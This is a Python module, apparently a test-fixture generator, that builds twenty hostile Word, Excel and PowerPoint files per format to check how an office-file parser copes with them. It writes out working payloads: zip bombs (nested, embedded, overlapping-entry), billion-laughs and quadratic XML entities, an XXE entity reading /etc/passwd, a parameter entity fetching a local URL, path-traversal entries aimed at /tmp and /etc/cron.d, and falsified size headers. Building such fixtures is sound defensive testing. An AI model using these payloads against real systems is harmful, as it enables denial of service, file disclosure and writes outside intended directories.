"""Hostile office files: what a ZIP archive and the XML in it can be made to do."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping

MIB = 1024 * 1024
_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Override PartName="/{main}" ContentType="{kind}.main+xml"/></Types>'
)
_RELATIONS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"'
    ' Target="{main}"/></Relationships>'
)
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_P = "http://schemas.openxmlformats.org/presentationml/2006/main"
BASES = {
    "docx": ("word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", f'w:document xmlns:w="{_W}"', "w:body", "w:p"),
    "xlsx": ("xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", f'workbook xmlns="{_S}"', "sheets", "sheet"),
    "pptx": ("ppt/presentation.xml", "application/vnd.openxmlformats-officedocument.presentationml.presentation", f'p:presentation xmlns:p="{_P}"', "p:sldIdLst", "p:sldId"),
}  # fmt: skip


class Package:
    """An office file being put together."""

    def __init__(self, base: str) -> None:
        self.main, self.kind, self.root, self.body, self.leaf = BASES[base]
        self.parts: list[tuple[str, bytes]] = []
        self.way = zipfile.ZIP_DEFLATED

    def document(self, inside: str = "", before: str = "") -> bytes:
        """The main part, with ``inside`` its body."""
        name = self.root.split()[0]
        return f'<?xml version="1.0"?>{before}<{self.root}><{self.body}>{inside}</{self.body}></{name}>'.encode()

    def packed(self, document: bytes | None = None, more: Mapping[str, bytes] = {}) -> bytes:
        """The file."""
        target = io.BytesIO()
        with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("[Content_Types].xml", _TYPES.format(main=self.main, kind=self.kind))
            archive.writestr("_rels/.rels", _RELATIONS.format(main=self.main))
            archive.writestr(self.main, document or self.document(), self.way)
            for name, content in more.items():
                archive.writestr(name, content, self.way)
        return target.getvalue()


def _nested(data: bytes, times: int, name: str) -> bytes:
    for _ in range(times):
        target = io.BytesIO()
        with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr(name, data)
        data = target.getvalue()
    return data


def _patched(data: bytes, entry: str, size: int) -> bytes:
    """The directory and the local header say that the entry has ``size`` bytes."""
    name, out = entry.encode(), bytearray(data)
    for signature, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        header = 30 if at == 22 else 46
        where = -1
        while (where := data.find(signature, where + 1)) >= 0:
            if data[where + header : where + header + len(name)] == name:
                out[where + at : where + at + 4] = struct.pack("<I", size)
    return bytes(out)


def overlapping(names: list[str], content: bytes, parts: Mapping[str, bytes]) -> bytes:
    """An archive in which all of ``names`` are the same packed bytes (after David Fifield's zip bomb)."""
    deflater = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = deflater.compress(content) + deflater.flush()
    body, directory = bytearray(), bytearray()

    def add(name: str, data: bytes, size: int, crc: int, at: int | None) -> int:
        here = len(body) if at is None else at
        fields = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 33, crc, len(data), size, len(name), 0)
        if at is None:
            body.extend(b"PK\x03\x04" + fields + name.encode() + data)
        directory.extend(
            b"PK\x01\x02" + struct.pack("<H", 20) + fields + struct.pack("<HHHII", 0, 0, 0, 0, here) + name.encode()
        )
        return here

    for name, data in parts.items():
        raw = zlib.compressobj(9, zlib.DEFLATED, -15)
        add(name, raw.compress(data) + raw.flush(), len(data), zlib.crc32(data), None)
    first = add(names[0], packed, len(content), zlib.crc32(content), None)
    for name in names[1:]:
        add(name, packed, len(content), zlib.crc32(content), first)
    count = len(parts) + len(names)
    end = struct.pack("<HHHHIIH", 0, 0, count, count, len(directory), len(body), 0)
    return bytes(body + directory + b"PK\x05\x06" + end)


def bombs(base: str) -> dict[str, Callable[[], bytes]]:
    """Twenty hostile files of one office format, by what they do."""
    one = Package(base)
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    doctype = f'<!DOCTYPE x [<!ENTITY l0 "ha">{laughs}]>'
    leaf = one.leaf

    def main_and(more: Mapping[str, bytes]) -> Callable[[], bytes]:
        return lambda: one.packed(more=more)

    def in_main(inside: Callable[[], str], before: str = "") -> Callable[[], bytes]:
        return lambda: one.packed(one.document(inside(), before))

    return {
        "media of 400 MB": lambda: one.packed(more={"media/a.bin": bytes(400 * MIB)}),
        "a main part of 70 MB": in_main(lambda: " " * (70 * MIB)),
        "forty parts of 2 MB": lambda: one.packed(more={f"x/{n}.xml": b"<a>" + b" " * (2 * MIB) + b"</a>" for n in range(40)}),
        "six thousand parts": main_and({f"x/{n}": b"" for n in range(6000)}),
        "a billion laughs": in_main(lambda: "&l9;", doctype),
        "an outside entity": in_main(lambda: "&o;", '<!DOCTYPE x [<!ENTITY o SYSTEM "file:///etc/passwd">]>'),
        "quadratic entities": in_main(lambda: "&a;" * 50_000, f'<!DOCTYPE x [<!ENTITY a "{"a" * 50_000}">]>'),
        "a parameter entity": in_main(str, '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://127.0.0.1:9/x"> %p;]>'),
        "elements 50,000 deep": in_main(lambda: f"<{leaf}>" * 50_000 + f"</{leaf}>" * 50_000),
        "two million and more elements": in_main(lambda: f"<{leaf}/>" * 2_200_000),
        "a thousand attributes each": in_main(lambda: ("<a " + " ".join(f'a{n}=""' for n in range(1000)) + "/>") * 2000),
        "archives in archives": lambda: one.packed(more={"embeddings/a.zip": _nested(b"x", 5, "a.zip")}),
        "an embedded zip bomb": lambda: one.packed(more={"embeddings/a.zip": _nested(bytes(350 * MIB), 1, "a.bin")}),
        "overlapping entries": lambda: overlapping(
            [f"x/{n}.bin" for n in range(300)], bytes(MIB), {one.main: one.document(), "[Content_Types].xml": b"<a/>"}
        ),
        "two main parts": lambda: _twice(one),
        "a size that lies, too small": lambda: _patched(one.packed(more={"x.bin": bytes(80 * MIB)}), "x.bin", 10),
        "a size that lies, too large": lambda: _patched(one.packed(more={"x.bin": bytes(1000)}), "x.bin", 2**31),
        "a name that climbs": main_and({"../../../../tmp/x": b"x"}),
        "an absolute name": main_and({"/etc/cron.d/x": b"x"}),
        "packed with LZMA": lambda: _lzma(one),
    }  # fmt: skip


def _twice(one: Package) -> bytes:
    target = io.BytesIO(one.packed())
    with zipfile.ZipFile(target, "a", zipfile.ZIP_DEFLATED) as archive:
        import warnings

        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            archive.writestr(one.main, one.document("x" * 1000))
    return target.getvalue()


def _lzma(one: Package) -> bytes:
    target = io.BytesIO(one.packed())
    with zipfile.ZipFile(target, "a") as archive:
        archive.writestr("media/a.bin", bytes(200 * MIB), zipfile.ZIP_LZMA)
    return target.getvalue()
